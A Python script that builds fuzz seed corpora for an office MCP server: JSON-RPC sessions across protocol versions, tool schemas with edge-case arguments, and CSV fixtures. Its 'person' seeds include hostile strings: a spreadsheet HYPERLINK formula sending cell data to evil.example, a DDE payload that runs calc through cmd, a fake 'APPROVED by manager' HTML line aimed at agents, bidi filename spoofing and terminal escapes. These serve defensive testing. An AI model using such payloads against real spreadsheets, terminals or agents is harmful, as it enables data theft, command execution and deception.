#!/usr/bin/env python3
"""Writes the fuzz seed corpus: corpus/session/ holds the client side of real exchanges from the
tests (tests/protocol/test_session.cpp, tests/e2e/test_end_to_end.cpp, tests/schema_conformance.py), one
session per file, a message per line; corpus/schema/ holds each tool's inputSchema and the
refund form's schema (first line) with arguments the tests send (the rest); corpus/csv/ holds the
CSV fixtures of tests/office/test_customer_csv.cpp, byte for byte, and a few small files for the
corners of core/support/csv.h.

Run it again after the protocol or the tools change: python3 tests/fuzz/make_seeds.py
"""
import json
import os
import shutil

HERE = os.path.dirname(os.path.abspath(__file__))
MODERN = "2026-07-28"
LEGACY = ["2024-11-05", "2025-03-26", "2025-06-18", "2025-11-25"]


def dump(message):
    return message if isinstance(message, str) else json.dumps(message, separators=(",", ":"))


def envelope(caps=None, version=MODERN):
    return {"io.modelcontextprotocol/protocolVersion": version,
            "io.modelcontextprotocol/clientCapabilities": caps if caps is not None else {},
            "io.modelcontextprotocol/clientInfo": {"name": "seed", "version": "1"}}


def req(i, method, params=None):
    m = {"jsonrpc": "2.0", "id": i, "method": method}
    if params is not None:
        m["params"] = params
    return m


def note(method, params=None):
    m = {"jsonrpc": "2.0", "method": method}
    if params is not None:
        m["params"] = params
    return m


def modern(i, method, params=None, caps=None):
    p = dict(params or {})
    p["_meta"] = envelope(caps)
    return req(i, method, p)


CALLS = [
    ("order_lunch", {"item": "tortilla", "quantity": 2}),
    ("order_lunch", {"item": "sopa", "quantity": 9, "colour": "rojo"}),
    ("order_lunch", {"item": "bocadillo", "quantity": 2.0, "note": "sin cebolla"}),
    ("order_lunch", {"item": "ensalada", "quantity": "2"}),
    ("order_lunch", {}),
    ("find_customer", {"query": "Maria"}),
    ("find_customer", {"query": "%_\\"}),
    ("list_availability", {"day": "2026-09-04"}),
    ("list_availability", {"day": "2026-02-30"}),
    ("book_slot", {"slot_id": 1, "customer_id": 1}),
    ("book_slot", {"slot_id": 99, "customer_id": 1}),
    ("book_slot", {"slot_id": 2, "customer_id": 42}),
    ("open_invoices", {"customer_id": 1}),
    ("open_invoices", {"customer_id": 42}),
    ("issue_refund", {"invoice_id": 4}),
    ("issue_refund", {"invoice_id": 99}),
    ("add_customer", {"name": "Ana Torres", "email": "ana@example.com"}),
    ("add_customer", {"name": "  ", "email": "MARIA@example.com"}),
    ("add_customer", {"name": "李华", "email": "not an address"}),
    ("edit_customer", {"customer_id": 2, "email": "priya@example.com"}),
    ("remove_customer", {"customer_id": 1}),
    ("add_invoice", {"customer_id": 3, "amount": "1234.56", "status": "paid"}),
    ("add_invoice", {"customer_id": 3, "amount": "12.345"}),
    ("pay_invoice", {"invoice_id": 2}),
    ("add_menu_item", {"item": "gazpacho", "price": "4.50"}),
    ("remove_menu_item", {"item": "tortilla"}),
    ("order_lunch", {"item": "gazpacho", "quantity": 3}),
    ("set_office", {"time_zone": "Europe/Madrid", "name": "Clínica Sol", "horizon_days": 60}),
    ("set_office", {"time_zone": "Nowhere/Atlantis"}),
    ("set_hours", {"days": "mon-fri", "ranges": "09:00-13:00,15:00-18:00", "slot_minutes": 30}),
    ("set_hours", {"days": "sun", "ranges": "closed"}),
    ("close_days", {"from": "2026-12-24", "to": "2026-12-26", "reason": "Navidad"}),
    ("open_day", {"day": "2026-12-26"}),
    ("list_availability", {}),
    ("list_availability", {"from": "2026-12-07", "to": "2026-12-13"}),
    ("move_booking", {"slot_id": 3, "to_slot_id": 4}),
    ("cancel_booking", {"slot_id": 4}),
    ("no_such_tool", {}),
]

sessions = {}

# The modern era: stateless, every request carries the envelope.
lines = [modern("d1", "server/discover"), modern(1, "tools/list")]
for n, (tool, args) in enumerate(CALLS, start=2):
    lines.append(modern(n, "tools/call", {"name": tool, "arguments": args}))
sessions["modern-tools"] = lines

forms = {"elicitation": {}}
sessions["modern-refund"] = [
    modern(1, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 2}}, forms),
    modern(2, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 2},
                             "inputResponses": {"approve_refund": {"action": "accept",
                                                                    "content": {"amount": 80, "reason": "Charged twice"}}},
                             "requestState": "v1.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}, forms),
    modern(3, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 2},
                             "inputResponses": {"approve_refund": {"action": "decline"}}}, forms),
]
# The tasks extension (core/office/tasks.h): a refund that waits for the desk becomes a task; the
# ids are random, so these reach the refusals (tests/fuzz/corpus/http/modern-tasks.txt reaches
# a real task), and an idempotency key in _meta.
tasks = {"extensions": {"io.modelcontextprotocol/tasks": {}}}
sessions["modern-tasks"] = [
    modern(1, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 2}}, tasks),
    modern(2, "tasks/get", {"taskId": "0123456789abcdef0123456789abcdef"}, tasks),
    modern(3, "tasks/cancel", {"taskId": "0123456789abcdef0123456789abcdef"}, tasks),
    modern(4, "tasks/update", {"taskId": "x", "inputResponses": {"k": {"action": "accept"}}}, tasks),
    modern(5, "tasks/update", {"taskId": "x", "inputResponses": []}, tasks),
    modern(6, "tasks/get", {"taskId": 7}, tasks),
    modern(7, "tasks/get", {"taskId": "x"}),
    modern(8, "tasks/result", {"taskId": "x"}, tasks),
    modern(9, "tasks/list", {}, tasks),
    modern(10, "subscriptions/listen", {"notifications": {"taskIds": ["x", 3]}}, tasks),
    modern(11, "subscriptions/listen", {"notifications": {"taskIds": ["x"]}}),
    req(12, "tools/call", {"name": "order_lunch", "arguments": {"item": "tortilla", "quantity": 1},
                           "_meta": dict(envelope(), **{"office-mcp/idempotencyKey": "lunch-1"})}),
    req(13, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 4},
                           "_meta": dict(envelope(tasks), **{"office-mcp/idempotencyKey": "refund-4"})}),
    req(14, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 4},
                           "_meta": dict(envelope(tasks), **{"office-mcp/idempotencyKey": "refund-4"})}),
]
# The prompts (core/office/prompts.h): each rendered, and the refusals.
sessions["modern-prompts"] = [
    modern(1, "prompts/list"),
    modern(2, "prompts/get", {"name": "book-appointment", "arguments": {"customer": "Maria", "day": "2026-09-04"}}),
    modern(3, "prompts/get", {"name": "book-appointment", "arguments": {"customer": "example.com"}}),
    modern(4, "prompts/get", {"name": "refund-invoice", "arguments": {"customer": "Priya", "invoice": "4"}}),
    modern(5, "prompts/get", {"name": "order-lunch", "arguments": {"item": "paella", "quantity": "2"}}),
    modern(6, "prompts/get", {"name": "customer-summary", "arguments": {"customer": "2"}}),
    modern(7, "prompts/get", {"name": "book-appointment", "arguments": {"customer": 7, "day": "2026-02-30"}}),
    modern(8, "prompts/get", {"name": "nothing"}),
    modern(9, "prompts/get", {"name": "order-lunch", "arguments": ["tortilla"]}),
    modern(10, "prompts/list", {"cursor": "x"}),
]
# Completions (core/office/completions.h), the rows' resources and the links to them.
P = lambda name: {"type": "ref/prompt", "name": name}
sessions["modern-completions"] = [
    modern(1, "completion/complete", {"ref": P("book-appointment"), "argument": {"name": "customer", "value": "ma"}}),
    modern(2, "completion/complete", {"ref": P("book-appointment"), "argument": {"name": "day", "value": "2026-09"}}),
    modern(3, "completion/complete", {"ref": P("refund-invoice"), "argument": {"name": "invoice", "value": ""},
                                      "context": {"arguments": {"customer": "Maria"}}}),
    modern(4, "completion/complete", {"ref": P("order-lunch"), "argument": {"name": "item", "value": "t"}}),
    modern(5, "completion/complete", {"ref": {"type": "ref/resource", "uri": "office://{table}{?after,limit}"},
                                      "argument": {"name": "table", "value": "s"}}),
    modern(6, "completion/complete", {"ref": {"type": "ref/resource", "uri": "office://customers/{id}"},
                                      "argument": {"name": "id", "value": "1"}}),
    modern(7, "completion/complete", {"ref": P("nothing"), "argument": {"name": "x", "value": 7}, "context": []}),
    modern(8, "tools/call", {"name": "find_customer", "arguments": {"query": "example.com"}}),
    modern(9, "resources/read", {"uri": "office://customers/2"}),
    modern(10, "resources/read", {"uri": "office://slots/3?limit=1"}),
    modern(11, "resources/templates/list"),
]

# MCP Apps (core/protocol/office_apps.h): the linked tools/list and the ui:// views, declared in
# the envelope and in a 2025 initialize, and the URIs that are not found.
APPS = {"extensions": {"io.modelcontextprotocol/ui": {"mimeTypes": ["text/html;profile=mcp-app"]}}}
sessions["modern-apps"] = [
    modern(1, "tools/list", caps=APPS),
    modern(2, "resources/read", {"uri": "ui://office/availability"}, caps=APPS),
    modern(3, "resources/read", {"uri": "ui://office/invoices"}, caps=APPS),
    modern(4, "resources/read", {"uri": "ui://office/lunch"}, caps=APPS),
    modern(5, "resources/read", {"uri": "ui://office/lunch"}),
    modern(6, "resources/read", {"uri": "ui://office/nothing"}, caps=APPS),
    modern(7, "resources/read", {"uri": "ui://office/lunch"},
           caps={"extensions": {"io.modelcontextprotocol/ui": {"mimeTypes": "text/html;profile=mcp-app"}}}),
    modern(8, "tools/call", {"name": "list_availability", "arguments": {"from": "2026-09-01", "to": "2026-09-07"}}, caps=APPS),
]
sessions["legacy-apps"] = [
    req(0, "initialize", {"protocolVersion": "2025-11-25", "capabilities": APPS, "clientInfo": {"name": "seed", "version": "3"}}),
    note("notifications/initialized"),
    req(1, "tools/list"),
    req(2, "resources/read", {"uri": "ui://office/availability"}),
    req(3, "resources/read", {"uri": "ui://"}),
    req(4, "resources/subscribe", {"uri": "ui://office/lunch"}),
]
sessions["modern-errors"] = [
    modern(1, "ping"),
    req(2, "tools/list", {"_meta": envelope(version="2099-01-01")}),
    req(3, "tools/list", {"_meta": {"io.modelcontextprotocol/protocolVersion": MODERN}}),
    req(4, "tools/list", {"_meta": {"io.modelcontextprotocol/protocolVersion": MODERN,
                                    "io.modelcontextprotocol/clientCapabilities": []}}),
    req(5, "tools/list"),
    modern(6, "tools/call", {"name": 7}),
    modern(7, "tools/call", {"name": "order_lunch", "arguments": [1]}),
    req(8, "tools/list", []),
]

# Every legacy era: the handshake, then the same calls, then the era's specialities.
for version in LEGACY:
    caps = {"elicitation": {}} if version >= "2025-06-18" else {}
    lines = [req(0, "initialize", {"protocolVersion": version, "capabilities": caps,
                                   "clientInfo": {"name": "seed", "version": "2"}}),
             note("notifications/initialized"), req(1, "ping"), req(2, "tools/list")]
    for n, (tool, args) in enumerate(CALLS, start=3):
        lines.append(req(n, "tools/call", {"name": tool, "arguments": args}))
    lines.append(req(40, "resources/list"))
    lines.append(req(42, "prompts/get", {"name": "book-appointment", "arguments": {"customer": "Tomas"}}))
    lines.append(req(41, "initialize", {"protocolVersion": version}))
    if version >= "2025-06-18":
        lines += [req(50, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 2}}),
                  {"jsonrpc": "2.0", "id": "elicit-1",
                   "result": {"action": "accept", "content": {"amount": 80, "reason": "Double charge"}}},
                  req(51, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 4}}),
                  {"jsonrpc": "2.0", "id": "elicit-2", "result": {"action": "accept", "content": {"amount": -1}}},
                  {"jsonrpc": "2.0", "id": "elicit-3", "result": {"action": "decline"}},
                  req(52, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 4}}),
                  note("notifications/cancelled", {"requestId": 52, "reason": "changed my mind"}),
                  req(53, "tools/call", {"name": "issue_refund", "arguments": {"invoice_id": 4}}),
                  {"jsonrpc": "2.0", "id": "elicit-5", "error": {"code": -1, "message": "no"}},
                  {"jsonrpc": "2.0", "id": "elicit-99", "result": {"action": "accept"}}]
    if version == "2025-03-26":
        lines += [[req(60, "ping"), req(61, "tools/list"), note("notifications/initialized")],
                  [], [1, 2], [req(62, "tools/call", {"name": "order_lunch",
                                                      "arguments": {"item": "tortilla", "quantity": 1}})]]
    sessions["legacy-" + version] = lines

# What hostile or confused clients send (tests/e2e/test_hostile_input.cpp has the full matrix).
sessions["bad-input"] = [
    "this is not json", '{"jsonrpc": "2.0", "id": 1, "method"', "", "   ", "[]", "null", "42", '"x"',
    {"jsonrpc": "1.0", "id": 1, "method": "ping"}, {"id": 1, "method": "ping"},
    {"jsonrpc": "2.0", "id": None, "method": "ping"}, {"jsonrpc": "2.0", "id": {"a": 1}, "method": "ping"},
    {"jsonrpc": "2.0", "id": 1.5, "method": "ping"}, {"jsonrpc": "2.0", "id": [1], "method": "ping"},
    {"jsonrpc": "2.0", "id": True, "method": "ping"}, {"jsonrpc": "2.0", "id": 1, "method": 5},
    {"jsonrpc": "2.0", "id": 1}, {"jsonrpc": "2.0", "id": 7, "result": {}},
    {"jsonrpc": "2.0", "id": "elicit-1", "error": {"code": 1, "message": "x"}},
    '{"jsonrpc":"2.0","id":1,"id":2,"method":"ping"}',
    '{"jsonrpc":"2.0","id":1e400,"method":"ping"}',
    '{"jsonrpc":"2.0","id":123456789012345678901234567890,"method":"ping"}',
    '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"book_slot","arguments":{"slot_id":1e300,"customer_id":1}}}',
    '[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]',
    '{"jsonrpc":"2.0","id":1,"method":"ping"}\r',
    '{"jsonrpc":"2.0","id":"\\u0000","method":"ping"}',
    note("notifications/cancelled", {"requestId": {"x": [1]}}),
]

# The schemas: the six tools' inputSchema (as tools/list shows them) and the refund form.
TOOL_SCHEMAS = [
    ({"type": "object", "properties": {"query": {"type": "string", "minLength": 1, "maxLength": 100}},
      "required": ["query"], "additionalProperties": False},
     [{"query": "Maria"}, {"query": ""}, {"query": 5}, {}, {"query": "x", "extra": 1}]),
    ({"type": "object", "properties": {"day": {"type": "string", "format": "date",
                                               "pattern": "^[0-9]{4}-[0-9]{2}-[0-9]{2}$"}},
      "required": ["day"], "additionalProperties": False},
     [{"day": "2026-09-04"}, {"day": "2026-02-30"}, {"day": "2024-02-29"}, {"day": "tomorrow"}]),
    ({"type": "object", "properties": {"slot_id": {"type": "integer", "minimum": 1},
                                       "customer_id": {"type": "integer", "minimum": 1}},
      "required": ["slot_id", "customer_id"], "additionalProperties": False},
     [{"slot_id": 1, "customer_id": 1}, {"slot_id": 0, "customer_id": -5}, {"slot_id": 1.5, "customer_id": 2.0},
      {"slot_id": 18446744073709551615, "customer_id": 1e300}]),
    ({"type": "object", "properties": {"item": {"type": "string", "enum": ["bocadillo", "tortilla", "ensalada"]},
                                       "quantity": {"type": "integer", "minimum": 1, "maximum": 5},
                                       "note": {"type": "string", "maxLength": 20}},
      "required": ["item", "quantity"], "additionalProperties": False},
     [{"item": "sopa", "quantity": 9, "colour": "rojo"}, {"item": "tortilla", "quantity": "2"},
      {"item": "tortilla", "quantity": 2, "note": "ñññññññññññññññññññññ"}]),
    ({"type": "object", "properties": {"amount": {"type": "number", "minimum": 0.01, "maximum": 80},
                                       "reason": {"type": "string", "minLength": 3, "maxLength": 200}},
      "required": ["amount", "reason"], "additionalProperties": False},
     [{"amount": 80, "reason": "Charged twice"}, {"amount": 0.001, "reason": "x"}, {"amount": 1e308}, []]),
    ({"type": "object", "properties": {"a": {"type": ["string", "null"], "exclusiveMinimum": 0,
                                             "exclusiveMaximum": 10.5, "enum": [1, "a", None, [1], {"b": 2}]},
                                       "b": {"type": "boolean"}, "c": {"type": "array"}, "d": {"type": "object"}},
      "required": ["a", "a", "z"], "additionalProperties": {}},
     [{"a": None, "b": True, "c": [], "d": {}}, {"a": 11, "b": 0}]),
]


def write(directory, files):
    shutil.rmtree(directory, ignore_errors=True)
    os.makedirs(directory)
    for name, text in files.items():
        with open(os.path.join(directory, name), "w", encoding="utf-8", newline="") as f:
            f.write(text)


write(os.path.join(HERE, "corpus", "session"),
      {name + ".jsonl": "\n".join(dump(m) for m in lines) + "\n" for name, lines in sessions.items()})
schema_files = {}
for n, (schema, values) in enumerate(TOOL_SCHEMAS):
    for k, value in enumerate(values):
        schema_files[f"schema-{n}-{k}.txt"] = dump(schema) + "\n" + dump(value)
write(os.path.join(HERE, "corpus", "schema"), schema_files)

FIXTURES = os.path.join(HERE, "..", "fixtures", "csv")
csv_files = {}
for name in sorted(os.listdir(FIXTURES)):
    if name.endswith(".csv"):
        with open(os.path.join(FIXTURES, name), "rb") as f:
            csv_files[name] = f.read()
csv_files.update({
    "office-export.csv": 'id,name,email\r\n1,"Alvarez, Maria",maria@example.com\r\n'
                         '2,"José ""Pepe"" García",pepe@example.es\r\n40,王小明,wang@example.cn\r\n'.encode(),
    "cr-only.csv": b"name,email\rMaria,m@example.com\rJose,j@example.com",
    "utf16be.csv": b"\xfe\xff" + "name,email\nZoë,z@example.com\n".encode("utf-16-be"),
    "thunderbird.csv": b"First Name,Last Name,Display Name,Primary Email,Secondary Email,\n"
                       b"Ana,N,Ana N.,,ana@example.mx,\n",
    "multiline.csv": b'name,email,notes\n"a\r\nb",x@example.com,"q""\n"\n\n,,\n,,,x\n',
})
shutil.rmtree(os.path.join(HERE, "corpus", "csv"), ignore_errors=True)
os.makedirs(os.path.join(HERE, "corpus", "csv"))
for name, data in csv_files.items():
    with open(os.path.join(HERE, "corpus", "csv", name), "wb") as f:
        f.write(data)
# Names as agents and people write them (issue 58): markup, a formula, a name that lies about
# its direction, a terminal's escapes, Arabic with its own marks, a long CJK name, an e-mail.
person_files = {
    "markup.txt": '<h2 style="color:green">APPROVED by manager, enter 900.00</h2>',
    "link.txt": '<a href="http://evil.example/">Maria</a>',
    "formula.txt": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "dde.txt": "@SUM(1+1)*cmd|' /C calc'!A0",
    "quote.txt": "'Tis Mary",
    "bidi.txt": "Ann\u202eelif.exe",
    "isolate.txt": "\u2066x\u2069 and \u202a",
    "escapes.txt": "\x1b]0;owned\x07\x1b[2J\x1b[31mEVIL",
    "note.txt": "two\nlines\r\n\u0085",
    "arabic.txt": "\u0645\u0631\u064a\u0645 \u200f(12)",
    "cjk.txt": "\u6b27\u9633" * 60,
    "email.txt": "maria.alvarez@example.com",
    "spaces.txt": "\u00a0 Zo\u00eb \u3000",
}
write(os.path.join(HERE, "corpus", "person"), {name: text for name, text in person_files.items()})
print(f"{len(sessions)} session seeds, {len(schema_files)} schema seeds, {len(csv_files)} csv seeds, {len(person_files)} person seeds")
